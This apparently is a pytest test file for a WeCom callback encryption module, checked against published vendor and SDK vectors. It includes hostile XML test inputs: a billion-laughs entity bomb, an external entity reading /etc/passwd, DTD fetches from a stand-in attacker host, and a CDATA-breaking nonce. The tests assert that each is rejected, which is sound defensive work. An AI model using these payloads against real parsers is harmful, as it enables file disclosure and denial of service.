"""The WeCom callback protocol (channels/wecom): published vectors, errors and properties.

The vectors are data from public sources, each cited where it is used:

- OFFICIAL: Tencent's WXBizMsgCrypt callback samples, the same values in every language,
  e.g. sbzhu/weworkapi_php callback/Sample.php (commit f2c836f57187c5390546a70e99be54251c56a95c)
  and sbzhu/weworkapi_golang sample.go: token "QDG6eK", CorpID "wx5823bf96d3bd56c7", a
  URL-verification GET, a message POST, and (in Sample.php) the message's plaintext.
- OFFICIAL_PY: the newer Python sample, sbzhu/weworkapi_python callback/Sample.py
  (commit 27220fbe9d5251d46101e33751568eae9f413666), with a real ww… CorpID.
- WECHATPY: the maintained wechatpy SDK's enterprise crypto tests,
  wechatpy/wechatpy tests/test_crypto.py (commit 3d560725881d69a5a8aca7a36f98e06dd8975042),
  whose encryption vector fixes the 16 random bytes, so a reply can be compared byte for byte.

Where a source gives only the inputs (the samples print the echostr's plaintext but do not
state it), the test says so and checks what can be checked independently: the signature,
and the plaintext's layout byte by byte with AES done here, apart from the module.
"""

from __future__ import annotations

import base64
import hashlib
import time
from collections.abc import Callable
from xml.sax.saxutils import escape

import pytest
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
from hypothesis import given, settings
from hypothesis import strategies as st

from zhongtai.channels.wecom import (
    WeComCrypto,
    WeComError,
    WeComErrorCode,
    aes_key_decode,
    message_parse,
)
from zhongtai.channels.wecom.safe_xml import xml_parse

# Pure protocol code: it answers the same on any database.
pytestmark = pytest.mark.no_database

# -- OFFICIAL: sbzhu/weworkapi_php callback/Sample.php @ f2c836f5 (also weworkapi_golang) --
OFFICIAL_TOKEN = "QDG6eK"
OFFICIAL_KEY = "jWmYm7qr5nMoAUwZRjGtBxmz3KA1tkAj3ykkR6q2B2C"
OFFICIAL_CORP = "wx5823bf96d3bd56c7"
# 使用示例一: GET /cgi-bin/wxpush?msg_signature=…&timestamp=…&nonce=…&echostr=… (URL-decoded)
OFFICIAL_URL = {
    "msg_signature": "5c45ff5e21c57e6ad56bac8758b79b1d9ac89fd3",
    "timestamp": "1409659589",
    "nonce": "263014780",
    "echostr": (
        "P9nAzCzyDtyTWESHep1vC5X9xho/qYX3Zpb4yKa9SKld1DsH3Iyt3tP3zNdtp+4RPcs8TgAE7OaBO+FZXvnaqQ=="
    ),
}
# The sample prints the echostr's plaintext without stating it; this value is the one that
# independent SDKs' tests assert for this vector (e.g. Go and PHP WeCom SDKs in the search
# corpus), and test_official_echostr_layout checks it byte by byte here.
OFFICIAL_ECHO_PLAIN = "1616140317555161061"
# 使用示例二: POST /cgi-bin/wxpush?msg_signature=…&timestamp=…&nonce=…
OFFICIAL_POST_QUERY = {
    "msg_signature": "477715d11cdb4164915debcba66cb864d751f3e6",
    "timestamp": "1409659813",
    "nonce": "1372623149",
}
OFFICIAL_ENCRYPT = (
    "RypEvHKD8QQKFhvQ6QleEB4J58tiPdvo+rtK1I9qca6aM/wvqnLSV5zEPeusUiX5L5X/0lWfrf0QADHHhGd3"
    "QczcdCUpj911L3vg3W/sYYvuJTs3TUUkSUXxaccAS0qhxchrRYt66wiSpGLYL42aM6A8dTT+6k4aSknmPj48"
    "kzJs8qLjvd4Xgpue06DOdnLxAUHzM6+kDZ+HMZfJYuR+LtwGc2hgf5gsijff0ekUNXZiqATP7PF5mZxZ3Izo"
    "un1s4zG4LUMnvw2r+KqCKIw+3IQH03v+BCA9nMELNqbSf6tiWSrXJB3LAVGUcallcrw8V2t9EL4EhzJWrQUa"
    "x5wLVMNS0+rUPA3k22Ncx4XXZS9o0MBH27Bo6BpNelZpS+/uh9KsNlY6bHCmJU9p8g7m3fVKn28H3KDYA5Pl"
    "/T8Z1ptDAVe0lXdQ2YoyyH2uyPIGHBZZIs2pDBS8R07+qN+E7Q=="
)
OFFICIAL_POST_BODY = (
    f"<xml><ToUserName><![CDATA[{OFFICIAL_CORP}]]></ToUserName>"
    f"<Encrypt><![CDATA[{OFFICIAL_ENCRYPT}]]></Encrypt>"
    "<AgentID><![CDATA[218]]></AgentID></xml>"
).encode()
# Sample.php, after DecryptMsg: "解密成功，sMsg即为xml格式的明文" — the documented plaintext.
OFFICIAL_POST_PLAIN = (
    b"<xml><ToUserName><![CDATA[wx5823bf96d3bd56c7]]></ToUserName>\n"
    b"<FromUserName><![CDATA[mycreate]]></FromUserName>\n"
    b"<CreateTime>1409659813</CreateTime>\n"
    b"<MsgType><![CDATA[text]]></MsgType>\n"
    b"<Content><![CDATA[hello]]></Content>\n"
    b"<MsgId>4561255354251345929</MsgId>\n"
    b"<AgentID>218</AgentID>\n"
    b"</xml>"
)

# -- OFFICIAL_PY: sbzhu/weworkapi_python callback/Sample.py @ 27220fbe ----------------------
PY_TOKEN = "hJqcu3uJ9Tn2gXPmxx2w9kkCkCE2EPYo"
PY_KEY = "6qkdMrq68nTKduznJYO1A37W2oEgpkMUvkttRToqhUt"
PY_CORP = "ww1436e0e65a779aee"
PY_URL = {
    "msg_signature": "012bc692d0a58dd4b10f8dfe5c4ac00ae211ebeb",
    "timestamp": "1476416373",
    "nonce": "47744683",
    "echostr": (
        "fsi1xnbH4yQh0+PJxcOdhhK6TDXkjMyhEPA7xB2TGz6b+g7xyAbEkRxN/3cNXW9qdqjnoVzEtpbhnFyq6SVHyA=="
    ),
}
PY_POST_QUERY = {
    "msg_signature": "0c3914025cb4b4d68103f6bfc8db550f79dcf48e",
    "timestamp": "1476422779",
    "nonce": "1597212914",
}
PY_POST_BODY = (
    b"<xml><ToUserName><![CDATA[ww1436e0e65a779aee]]></ToUserName>\n<Encrypt><![CDATA["
    b"Kl7kjoSf6DMD1zh7rtrHjFaDapSCkaOnwu3bqLc5tAybhhMl9pFeK8NslNPVdMwmBQTNoW4mY7AIjeLvEl3N"
    b"yeTkAgGzBhzTtRLNshw2AEew+kkYcD+Fq72Kt00fT0WnN87hGrW8SqGc+NcT3mu87Ha3dz1pSDi6GaUA6A0s"
    b"qfde0VJPQbZ9U+3JWcoD4Z5jaU0y9GSh010wsHF8KZD24YhmZH4ch4Ka7ilEbjbfvhKkNL65HHL0J6EYJIZU"
    b"C2pFrdkJ7MhmEbU2qARR4iQHE7wy24qy0cRX3Mfp6iELcDNfSsPGjUQVDGxQDCWjayJOpcwocugux082f49H"
    b"KYg84EpHSGXAyh+/oxwaWbvL6aSDPOYuPDGOCI8jmnKiypE+]]></Encrypt>\n"
    b"<AgentID><![CDATA[1000002]]></AgentID>\n</xml>"
)
# The same Sample.py's EncryptMsg example (sRespData) is this POST's plaintext, byte for byte.
PY_POST_PLAIN = (
    "<xml><ToUserName>ww1436e0e65a779aee</ToUserName><FromUserName>ChenJiaShun</FromUserName>"
    "<CreateTime>1476422779</CreateTime><MsgType>text</MsgType><Content>你好</Content>"
    "<MsgId>1456453720</MsgId><AgentID>1000002</AgentID></xml>"
).encode()

# -- WECHATPY: wechatpy/wechatpy tests/test_crypto.py @ 3d560725 -----------------------------
WP_TOKEN = "123456"
WP_KEY = "kWxPEV2UEDyxWpmPdKC3F4dgPDmOvfKX1HGnEUDS1aR"
WP_CORP = "wx49f0ab532d5d035a"
WP_URL = {
    "msg_signature": "dd6b9c95b495b3f7e2901bfbc76c664930ffdb96",
    "timestamp": "1411443780",
    "nonce": "437374425",
    "echostr": (
        "4ByGGj+sVCYcvGeQYhaKIk1o0pQRNbRjxybjTGblXrBaXlTXeOo1+bXFXDQQb1o6co6Yh9Bv41n7hOchLF6p+Q=="
    ),
}
WP_RANDOM = b"1234567890123456"  # wechatpy's PrpCryptoMock.get_random_string
WP_REPLY = (
    "<xml>\n<MsgType><![CDATA[text]]></MsgType>\n<Content><![CDATA[test]]></Content>\n"
    "<FromUserName><![CDATA[wx49f0ab532d5d035a]]></FromUserName>\n"
    "<ToUserName><![CDATA[messense]]></ToUserName>\n<AgentID>1</AgentID>\n"
    "<CreateTime>1411525903</CreateTime>\n</xml>"
)
WP_REPLY_ENCRYPT = (
    "9s4gMv99m88kKTh/H8IdkOiMg6bisoy3ypwy9H4hvSPe9nsGaqyw5hhSjdYbcrKk+j3nba4HMOTzHrluLBYq"
    "xgNcBqGsL8GqxlhZgURnAtObvesEl5nZ+uBE8bviY0LWke8Zy9V/QYKxNV2FqllNXcfmstttyIkMKCCmVbCF"
    "M2JTF5wY0nFhHZSjPUL2Q1qvSUCUld+/WIXrx0oyKQmpB6o8NRrrNrsDf03oxI1p9FxUgMnwKKZeOA/uu+2I"
    "EvEBtb7muXsVbwbgX05UPPJvFurDXafG0RQyPR+mf1nDnAtQmmNOuiR5MIkdQ39xn1vWwi1O5oazPoQJz0nT"
    "YjxxEE8kv3kFxtAGVRe3ypD3WeK2XeFYFMNMpatF9XiKzHo3"
)
WP_REPLY_SIGNATURE = "407518b7649e86ef23978113f92d27afa9296533"
WP_POST_QUERY = {
    "msg_signature": "74d92dfeb87ba7c714f89d98870ae5eb62dff26d",
    "timestamp": "1411525903",
    "nonce": "461056294",
}
WP_POST_BODY = (
    b"<xml><ToUserName><![CDATA[wx49f0ab532d5d035a]]></ToUserName>\n<Encrypt><![CDATA["
    b"RgqEoJj5A4EMYlLvWO1F86ioRjZfaex/gePD0gOXTxpsq5Yj4GNglrBb8I2BAJVODGajiFnXBu7mCPatfjsu"
    b"6IHCrsTyeDXzF6Bv283dGymzxh6ydJRvZsryDyZbLTE7rhnus50qGPMfp2wASFlzEgMW9z1ef/RD8XzaFYgm"
    b"7iTdaXpXaG4+BiYyolBug/gYNx410cvkKR2/nPwBiT+P4hIiOAQqGp/TywZBtDh1yCF2KOd0gpiMZ5jSw3e2"
    b"9mTvmUHzkVQiMS6td7vXUaWOMZnYZlF3So2SjHnwh4jYFxdgpkHHqIrH/54SNdshoQgWYEvccTKe7FS709/5"
    b"t6NMxuGhcUGAPOQipvWTT4dShyqio7mlsl5noTrb++x6En749zCpQVhDpbV6GDnTbcX2e8K9QaNWHp91eBdC"
    b"RxthuL0=]]></Encrypt>\n<AgentID><![CDATA[1]]></AgentID>\n</xml>"
)


def official() -> WeComCrypto:
    return WeComCrypto(OFFICIAL_TOKEN, OFFICIAL_KEY, OFFICIAL_CORP)


def raw_aes(key: str, data: bytes, *, encrypt: bool) -> bytes:
    """AES-256-CBC straight from ``cryptography``, apart from the module: the oracle."""
    aes_key = base64.b64decode(key + "=")
    cipher = Cipher(algorithms.AES(aes_key), modes.CBC(aes_key[:16]))
    op = cipher.encryptor() if encrypt else cipher.decryptor()
    return op.update(data) + op.finalize()


def hand_built(msg: bytes, receive_id: bytes, *, pad: bytes | None = None) -> str:
    """A ciphertext built by hand in the protocol's layout, with its padding overridable."""
    plain = b"R" * 16 + len(msg).to_bytes(4, "big") + msg + receive_id
    if pad is None:
        n = 32 - len(plain) % 32
        pad = bytes([n]) * n
    return base64.b64encode(raw_aes(OFFICIAL_KEY, plain + pad, encrypt=True)).decode()


def signed_body(crypto: WeComCrypto, encrypted: str) -> tuple[str, str, str, bytes]:
    timestamp, nonce = "1409659813", "1372623149"
    body = f"<xml><Encrypt><![CDATA[{encrypted}]]></Encrypt></xml>".encode()
    return crypto.signature(timestamp, nonce, encrypted), timestamp, nonce, body


def code_of(excinfo: pytest.ExceptionInfo[WeComError]) -> WeComErrorCode:
    return excinfo.value.code


# -- published vectors ---------------------------------------------------------------------


def test_official_url_verification_answers_the_echostr_plaintext() -> None:
    assert official().verify_url(**OFFICIAL_URL) == OFFICIAL_ECHO_PLAIN


def test_official_signatures_match_the_published_ones() -> None:
    crypto = official()
    url, post = OFFICIAL_URL, OFFICIAL_POST_QUERY
    assert crypto.signature(url["timestamp"], url["nonce"], url["echostr"]) == url["msg_signature"]
    assert (
        crypto.signature(post["timestamp"], post["nonce"], OFFICIAL_ENCRYPT)
        == (post["msg_signature"])
    )
    # And the formula itself, by hand: SHA-1 of the sorted concatenation.
    parts = sorted([OFFICIAL_TOKEN, url["timestamp"], url["nonce"], url["echostr"]])
    assert hashlib.sha1("".join(parts).encode()).hexdigest() == url["msg_signature"]  # noqa: S324


def test_official_message_decrypts_to_the_documented_plaintext() -> None:
    assert official().decrypt(**OFFICIAL_POST_QUERY, post_xml=OFFICIAL_POST_BODY) == (
        OFFICIAL_POST_PLAIN
    )


def test_official_message_layout_byte_by_byte() -> None:
    """Decrypted here with bare AES: random(16) + msg_len(4, big-endian) + msg + CorpID +
    PKCS#7 padding to a multiple of 32 bytes."""
    plain = raw_aes(OFFICIAL_KEY, base64.b64decode(OFFICIAL_ENCRYPT), encrypt=False)
    assert len(plain) % 32 == 0
    pad = plain[-1]
    assert 1 <= pad <= 32
    assert plain[-pad:] == bytes([pad]) * pad
    body = plain[:-pad]
    assert int.from_bytes(body[16:20], "big") == len(OFFICIAL_POST_PLAIN)
    assert body[20 : 20 + len(OFFICIAL_POST_PLAIN)] == OFFICIAL_POST_PLAIN
    assert body[20 + len(OFFICIAL_POST_PLAIN) :] == OFFICIAL_CORP.encode()


def test_official_echostr_layout() -> None:
    plain = raw_aes(OFFICIAL_KEY, base64.b64decode(OFFICIAL_URL["echostr"]), encrypt=False)
    body = plain[: -plain[-1]]
    assert int.from_bytes(body[16:20], "big") == len(OFFICIAL_ECHO_PLAIN)
    assert body[20:] == OFFICIAL_ECHO_PLAIN.encode() + OFFICIAL_CORP.encode()


def test_official_message_parses() -> None:
    message = message_parse(official().decrypt(**OFFICIAL_POST_QUERY, post_xml=OFFICIAL_POST_BODY))
    assert (message.msg_type, message.content, message.from_user) == ("text", "hello", "mycreate")
    assert (message.to_user, message.msg_id, message.agent_id) == (
        OFFICIAL_CORP,
        "4561255354251345929",
        "218",
    )
    assert message.create_time is not None
    assert message.create_time.utcoffset() is not None
    assert message.create_time.timestamp() == 1409659813


def test_python_sample_vectors() -> None:
    """sbzhu/weworkapi_python's Sample.py: a real ww… CorpID and a Chinese message."""
    crypto = WeComCrypto(PY_TOKEN, PY_KEY, PY_CORP)
    # Sample.py does not state the echostr's plaintext; the receive id check passing and
    # the signature are what is verified, and the value is pinned.
    assert crypto.verify_url(**PY_URL) == "1288432023552776189"
    inner = crypto.decrypt(**PY_POST_QUERY, post_xml=PY_POST_BODY)
    assert inner == PY_POST_PLAIN
    message = message_parse(inner)
    assert (message.content, message.from_user, message.agent_id) == (
        "你好",
        "ChenJiaShun",
        "1000002",
    )


def test_wechatpy_vectors() -> None:
    crypto = WeComCrypto(WP_TOKEN, WP_KEY, WP_CORP, random_bytes=lambda n: WP_RANDOM[:n])
    # wechatpy checks only that this passes; the plaintext is pinned here.
    assert crypto.verify_url(**WP_URL) == "5927782489442352469"
    with pytest.raises(WeComError) as excinfo:  # wechatpy's failing case: another nonce
        crypto.verify_url(**{**WP_URL, "nonce": "437374424"})
    assert code_of(excinfo) == WeComErrorCode.VALIDATE_SIGNATURE
    message = message_parse(crypto.decrypt(**WP_POST_QUERY, post_xml=WP_POST_BODY))
    assert (message.content, message.from_user) == ("test", "messense")


def test_wechatpy_reply_is_reproduced_byte_for_byte() -> None:
    """With wechatpy's fixed random prefix, the reply's ciphertext and signature are the
    published ones."""
    crypto = WeComCrypto(WP_TOKEN, WP_KEY, WP_CORP, random_bytes=lambda n: WP_RANDOM[:n])
    reply = xml_parse(crypto.encrypt(WP_REPLY, "461056294", "1411525903"))
    assert [child.tag for child in reply] == ["Encrypt", "MsgSignature", "TimeStamp", "Nonce"]
    assert reply.findtext("Encrypt") == WP_REPLY_ENCRYPT
    assert reply.findtext("MsgSignature") == WP_REPLY_SIGNATURE
    assert (reply.findtext("TimeStamp"), reply.findtext("Nonce")) == ("1411525903", "461056294")


# -- round trip ----------------------------------------------------------------------------


def test_reply_round_trip() -> None:
    crypto = official()
    reply_xml = (
        "<xml><ToUserName><![CDATA[mycreate]]></ToUserName>"
        "<FromUserName><![CDATA[wx5823bf96d3bd56c7]]></FromUserName>"
        "<CreateTime>1348831860</CreateTime><MsgType><![CDATA[text]]></MsgType>"
        "<Content><![CDATA[this is这是一个中文测试 a test]]></Content>"
        "<MsgId>1234567890123456</MsgId><AgentID>128</AgentID></xml>"
    )
    outer = crypto.encrypt(reply_xml, "1372623149", "1409659813")
    reply = xml_parse(outer)
    inner = crypto.decrypt(
        reply.findtext("MsgSignature") or "",
        reply.findtext("TimeStamp") or "",
        reply.findtext("Nonce") or "",
        outer.encode(),
    )
    assert inner.decode() == reply_xml
    assert message_parse(inner).content == "this is这是一个中文测试 a test"


def test_reply_timestamp_defaults_to_now() -> None:
    before = int(time.time())
    stamp = xml_parse(official().encrypt("<xml/>", "n1")).findtext("TimeStamp") or "0"
    assert before <= int(stamp) <= int(time.time())


def test_each_reply_has_a_fresh_random_prefix() -> None:
    crypto = official()
    assert crypto.encrypt_payload(b"same") != crypto.encrypt_payload(b"same")


# -- errors --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "signature",
    [
        "5c45ff5e21c57e6ad56bac8758b79b1d9ac89fd4",  # last digit changed
        "5C45FF5E21C57E6AD56BAC8758B79B1D9AC89FD3",  # the protocol's digest is lower-case
        "",
        "5c45ff5e21c57e6ad56bac8758b79b1d9ac89fd",
        "签名",
    ],
)
def test_tampered_signature_is_refused(signature: str) -> None:
    with pytest.raises(WeComError) as excinfo:
        official().verify_url(**{**OFFICIAL_URL, "msg_signature": signature})
    assert code_of(excinfo) == WeComErrorCode.VALIDATE_SIGNATURE


@pytest.mark.parametrize("field", ["timestamp", "nonce"])
def test_signature_covers_timestamp_and_nonce(field: str) -> None:
    query = {**OFFICIAL_POST_QUERY, field: OFFICIAL_POST_QUERY[field] + "1"}
    with pytest.raises(WeComError) as excinfo:
        official().decrypt(**query, post_xml=OFFICIAL_POST_BODY)
    assert code_of(excinfo) == WeComErrorCode.VALIDATE_SIGNATURE


def test_tampered_ciphertext_is_refused_before_decryption() -> None:
    body = OFFICIAL_POST_BODY.replace(b"RypEv", b"RypEw")
    with pytest.raises(WeComError) as excinfo:
        official().decrypt(**OFFICIAL_POST_QUERY, post_xml=body)
    assert code_of(excinfo) == WeComErrorCode.VALIDATE_SIGNATURE


def test_wrong_token_is_refused() -> None:
    crypto = WeComCrypto("QDG6eL", OFFICIAL_KEY, OFFICIAL_CORP)
    with pytest.raises(WeComError) as excinfo:
        crypto.verify_url(**OFFICIAL_URL)
    assert code_of(excinfo) == WeComErrorCode.VALIDATE_SIGNATURE


@pytest.mark.parametrize("corp", ["wx5823bf96d3bd56c8", "wx5823bf96d3bd56c", "ww1436e0e65a779aee"])
def test_wrong_corp_id_is_refused(corp: str) -> None:
    crypto = WeComCrypto(OFFICIAL_TOKEN, OFFICIAL_KEY, corp)
    with pytest.raises(WeComError) as excinfo:
        crypto.decrypt(**OFFICIAL_POST_QUERY, post_xml=OFFICIAL_POST_BODY)
    assert code_of(excinfo) == WeComErrorCode.VALIDATE_RECEIVE_ID
    with pytest.raises(WeComError) as excinfo:
        crypto.verify_url(**OFFICIAL_URL)
    assert code_of(excinfo) == WeComErrorCode.VALIDATE_RECEIVE_ID


@pytest.mark.parametrize(
    "key",
    [
        OFFICIAL_KEY[:-1],  # 42
        OFFICIAL_KEY + "A",  # 44
        OFFICIAL_KEY[:-1] + "=",  # padding is added by the protocol, not by the admin
        OFFICIAL_KEY[:-1] + "-",  # URL-safe alphabet is not the protocol's
        OFFICIAL_KEY[:-1] + "密",
        " " + OFFICIAL_KEY[1:],
        "",
    ],
)
def test_bad_encoding_aes_key_is_refused_clearly(key: str) -> None:
    with pytest.raises(WeComError) as excinfo:
        WeComCrypto(OFFICIAL_TOKEN, key, OFFICIAL_CORP)
    assert code_of(excinfo) == WeComErrorCode.ILLEGAL_AES_KEY
    assert "43 characters" in excinfo.value.message
    if key:
        assert key not in str(excinfo.value)  # the key is a secret: never in a log line


def test_aes_key_decodes_to_32_bytes() -> None:
    assert len(aes_key_decode(OFFICIAL_KEY)) == 32


def test_another_valid_key_fails_to_decrypt() -> None:
    crypto = WeComCrypto(OFFICIAL_TOKEN, "A" * 43, OFFICIAL_CORP)
    with pytest.raises(WeComError) as excinfo:
        crypto.decrypt(**OFFICIAL_POST_QUERY, post_xml=OFFICIAL_POST_BODY)
    assert code_of(excinfo) == WeComErrorCode.DECRYPT_AES


@pytest.mark.parametrize(
    "pad",
    [
        b"\x00" * 32,  # a zero pad byte
        b"\x21" * 32,  # 33: longer than a 32-byte block
        bytes([5] * 31 + [6]),  # last byte says 6, the five before it disagree
        bytes([2] * 30 + [1, 2]),  # inconsistent pad bytes
    ],
)
def test_bad_padding_is_refused(pad: bytes) -> None:
    msg = b"<xml/>"
    # Pad the layout to a block boundary by hand, then add the bad 32-byte tail.
    body_len = 16 + 4 + len(msg) + len(OFFICIAL_CORP)
    filler = b"" if body_len % 32 == 0 else bytes([0]) * (32 - body_len % 32)
    encrypted = hand_built(msg, OFFICIAL_CORP.encode() + filler, pad=pad)
    crypto = official()
    with pytest.raises(WeComError) as excinfo:
        crypto.decrypt(*signed_body(crypto, encrypted))
    assert code_of(excinfo) == WeComErrorCode.DECRYPT_AES


def test_hand_built_ciphertext_is_accepted() -> None:
    """The control for the padding and layout tests: the same construction, well formed."""
    crypto = official()
    encrypted = hand_built("中文消息".encode(), OFFICIAL_CORP.encode())
    assert crypto.decrypt(*signed_body(crypto, encrypted)) == "中文消息".encode()


@pytest.mark.parametrize(
    "cut",
    [
        lambda raw: raw[:-16],  # one AES block short: the padding is gone
        lambda raw: raw[:-32],
        lambda raw: raw[:-1],  # not a whole number of blocks
        lambda raw: raw[:15],
        lambda raw: raw[:3],
    ],
)
def test_truncated_ciphertext_is_refused(cut: Callable[[bytes], bytes]) -> None:
    raw = base64.b64decode(hand_built(b"<xml><Content>" + b"x" * 40 + b"</Content></xml>", b"C"))
    encrypted = base64.b64encode(cut(raw)).decode()
    crypto = official()
    with pytest.raises(WeComError) as excinfo:
        crypto.decrypt(*signed_body(crypto, encrypted))
    assert code_of(excinfo) == WeComErrorCode.DECRYPT_AES


@pytest.mark.parametrize(
    "encrypted",
    [
        "not base64!",
        "QUJDRA=",  # missing padding
        "QUJD\nRA==",  # line breaks are not in the protocol's Base64
        "QUJD-_==",  # URL-safe alphabet
    ],
)
def test_ciphertext_that_is_not_base64_is_refused(encrypted: str) -> None:
    crypto = official()
    with pytest.raises(WeComError) as excinfo:
        crypto.verify_url(crypto.signature("1", "2", encrypted), "1", "2", encrypted)
    assert code_of(excinfo) == WeComErrorCode.DECODE_BASE64


@pytest.mark.parametrize(
    ("plain", "why"),
    [
        (b"R" * 16 + b"\xff\xff\xff\xff" + b"<xml/>" + OFFICIAL_CORP.encode(), "msg_len too big"),
        (b"R" * 16 + b"\x00\x00", "shorter than random + msg_len"),
    ],
)
def test_plaintext_without_the_protocol_layout_is_refused(plain: bytes, why: str) -> None:
    n = 32 - len(plain) % 32
    encrypted = base64.b64encode(
        raw_aes(OFFICIAL_KEY, plain + bytes([n]) * n, encrypt=True)
    ).decode()
    crypto = official()
    with pytest.raises(WeComError) as excinfo:
        crypto.decrypt(*signed_body(crypto, encrypted))
    assert code_of(excinfo) == WeComErrorCode.ILLEGAL_BUFFER, why


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"not xml",
        b"<xml><ToUserName>x</ToUserName></xml>",  # no <Encrypt>
        b"<xml><Encrypt></Encrypt></xml>",
        b"<xml><Encrypt>QUJD</Encrypt><Encrypt>QUJD</Encrypt></xml>",  # which one is signed?
        b"<xml><Encrypt><nested/>QUJD</Encrypt></xml>",
        b"<xml><Encrypt>QUJD</Encrypt></xml><xml/>",
        b"<xml><Encrypt>QUJD</Encrypt>",
    ],
)
def test_post_body_that_is_not_the_protocol_xml_is_refused(body: bytes) -> None:
    with pytest.raises(WeComError) as excinfo:
        official().decrypt("0" * 40, "1", "2", body)
    assert code_of(excinfo) == WeComErrorCode.PARSE_XML


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE xml [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<xml><Encrypt>&lol9;</Encrypt><MsgType>text</MsgType><Content>&lol9;</Content></xml>"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE xml [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<xml><Encrypt>&secret;</Encrypt><MsgType>text</MsgType><Content>&secret;</Content></xml>"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE xml SYSTEM "http://attacker.invalid/evil.dtd">
<xml><Encrypt>QUJD</Encrypt><MsgType>text</MsgType></xml>"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE xml [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]>
<xml><Encrypt>QUJD</Encrypt><MsgType>text</MsgType></xml>"""


@pytest.mark.parametrize("bomb", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY])
def test_xml_bombs_and_external_entities_are_refused(bomb: bytes) -> None:
    started = time.monotonic()
    with pytest.raises(WeComError) as excinfo:
        official().decrypt("0" * 40, "1", "2", bomb)
    assert code_of(excinfo) == WeComErrorCode.PARSE_XML
    # The inner message goes through the same parser (a sender who knows the key is
    # still not trusted to expand entities).
    with pytest.raises(WeComError) as excinfo:
        message_parse(bomb)
    assert code_of(excinfo) == WeComErrorCode.PARSE_XML
    assert time.monotonic() - started < 1


def test_bomb_inside_a_valid_ciphertext_is_refused() -> None:
    crypto = official()
    encrypted = crypto.encrypt_payload(BILLION_LAUGHS)
    inner = crypto.decrypt(*signed_body(crypto, encrypted))
    with pytest.raises(WeComError) as excinfo:
        message_parse(inner)
    assert code_of(excinfo) == WeComErrorCode.PARSE_XML


@pytest.mark.parametrize(
    ("nonce", "timestamp"),
    [("]]><x/><![CDATA[", "1"), ("abc def", "1"), ("", "1"), ("n", "12a"), ("n", "-1")],
)
def test_reply_refuses_a_nonce_or_timestamp_that_would_break_the_xml(
    nonce: str, timestamp: str
) -> None:
    with pytest.raises(WeComError) as excinfo:
        official().encrypt("<xml/>", nonce, timestamp)
    assert code_of(excinfo) == WeComErrorCode.GEN_RETURN_XML


def test_secrets_stay_out_of_repr_and_errors() -> None:
    crypto = official()
    assert OFFICIAL_TOKEN not in repr(crypto)
    assert OFFICIAL_KEY not in repr(crypto)
    with pytest.raises(WeComError) as excinfo:
        crypto.decrypt(**OFFICIAL_POST_QUERY, post_xml=OFFICIAL_POST_BODY.replace(b"Ryp", b"Ryq"))
    assert OFFICIAL_TOKEN not in str(excinfo.value)
    assert str(excinfo.value).startswith("-40001")


@pytest.mark.parametrize(("token", "corp"), [("", OFFICIAL_CORP), (OFFICIAL_TOKEN, "")])
def test_empty_token_or_receive_id_is_refused(token: str, corp: str) -> None:
    with pytest.raises(WeComError):
        WeComCrypto(token, OFFICIAL_KEY, corp)


# -- properties ----------------------------------------------------------------------------

texts = st.text(
    alphabet=st.one_of(
        st.characters(min_codepoint=0x4E00, max_codepoint=0x9FFF),  # CJK ideographs
        st.characters(codec="utf-8"),
    ),
    max_size=300,
)


@settings(max_examples=150, deadline=None)
@given(text=texts, receive_id=st.text(min_size=1, max_size=40).filter(lambda s: "\x00" not in s))
def test_payload_round_trip_of_any_text(text: str, receive_id: str) -> None:
    crypto = WeComCrypto(OFFICIAL_TOKEN, OFFICIAL_KEY, receive_id)
    msg = text.encode("utf-8")
    encrypted = crypto.encrypt_payload(msg)
    raw = base64.b64decode(encrypted)
    assert len(raw) % 32 == 0  # padded to 32-byte blocks, not 16
    plain = raw_aes(OFFICIAL_KEY, raw, encrypt=False)
    assert plain[16:20] == len(msg).to_bytes(4, "big")  # the length counts bytes, not chars
    assert plain[20 : 20 + len(msg)] == msg
    assert crypto.decrypt_payload(encrypted) == msg


def xml_char(c: str) -> bool:
    """Whether XML 1.0 can carry ``c`` (WeCom's messages never hold the others)."""
    n = ord(c)
    return c in "\t\n" or 0x20 <= n <= 0xD7FF or 0xE000 <= n <= 0xFFFD or n >= 0x10000


@settings(max_examples=100, deadline=None)
@given(content=texts, nonce=st.from_regex(r"[0-9A-Za-z]{1,32}", fullmatch=True))
def test_reply_round_trip_of_any_message(content: str, nonce: str) -> None:
    crypto = official()
    content = "".join(c for c in content if xml_char(c))
    reply_xml = f"<xml><MsgType>text</MsgType><Content>{escape(content)}</Content></xml>"
    outer = crypto.encrypt(reply_xml, nonce, "1700000000")
    signature = xml_parse(outer).findtext("MsgSignature") or ""
    inner = crypto.decrypt(signature, "1700000000", nonce, outer.encode())
    assert inner.decode("utf-8") == reply_xml
    assert message_parse(inner).content == content
